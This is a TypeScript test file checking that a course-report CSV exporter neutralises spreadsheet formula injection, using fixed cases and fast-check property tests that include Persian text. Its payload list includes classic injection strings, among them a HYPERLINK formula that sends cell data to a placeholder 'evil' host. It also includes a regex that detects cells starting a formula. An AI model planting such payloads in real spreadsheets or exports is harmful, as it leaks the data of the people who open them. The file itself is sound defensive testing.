/**
 * Report CSV against formula injection (OWASP "CSV injection"): whatever text a company name,
 * a course title or a question holds, no cell a spreadsheet reads starts a formula, and the
 * text is still there to read. Cells are read back with the project's RFC 4180 reader.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../accounts/csv';
import { csvField, neutralizeFormula, reportCsv } from '../csv';
import type { CourseReportRow } from '../service';

/** What a spreadsheet looks at: the first character after spaces and invisible marks. */
const FORMULA = /^[\s\u00A0\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
const startsFormula = (cell: string) => /^[\t\r\n]/.test(cell) || (FORMULA.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));

const row = (company: string, title = 'دوره قرائت کنتور'): CourseReportRow => ({
  course: 'meter-reading',
  courseTitle: title,
  company,
  learners: 3,
  attempted: 2,
  passed: 1,
  completed: 1,
  passRate: 50,
  completionRate: null,
});

/** Strings built mostly from the characters that matter here, plus anything at all. */
const dangerous = fc.oneof(
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u200F', '\u200C', '\uFEFF', '"', ',', '＝', 'ش', 'A', '1', "'") }),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
);

describe('report CSV', () => {
  it('neutralises the classic payloads with a leading quote', () => {
    for (const payload of ['=1+1', '+A1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=HYPERLINK("http://evil/?"&A1,"x")', ' =1+1', '\u200F=1', '\uFEFF@x', '＝1+1']) {
      expect(neutralizeFormula(payload), JSON.stringify(payload)).toBe(`'${payload}`);
    }
  });

  it('leaves Persian text, negative numbers and rates as they are', () => {
    expect(csvField('شرکت پیمانکاری نمونه نور')).toBe('شرکت پیمانکاری نمونه نور');
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField(50)).toBe('50');
    expect(csvField(null)).toBe('');
    expect(csvField('آیین‌نامه - ماده ۵')).toBe('آیین‌نامه - ماده ۵');
  });

  it('no cell of a report starts a formula, whatever the text (fast-check)', () => {
    fc.assert(
      fc.property(dangerous, dangerous, (company, title) => {
        const [, ...records] = parseCsv(reportCsv('courses', [row(company, title)]));
        expect(records).toHaveLength(1);
        const cells = records[0]!.fields;
        for (const cell of cells) expect(startsFormula(cell), JSON.stringify(cell)).toBe(false);
        // Nothing is lost: the text is the cell, or the cell without the added quote.
        expect([company, `'${company}`]).toContain(cells[2]);
        expect([title, `'${title}`]).toContain(cells[1]);
      }),
      { numRuns: 2000 },
    );
  });

  it('the property is not vacuous: unneutralised output would fail it', () => {
    expect(startsFormula('=1+1')).toBe(true);
    expect(startsFormula(' @x')).toBe(true);
    expect(startsFormula('\u200F+1')).toBe(true);
    expect(startsFormula('-5')).toBe(false);
    expect(startsFormula("'=1+1")).toBe(false);
  });
});
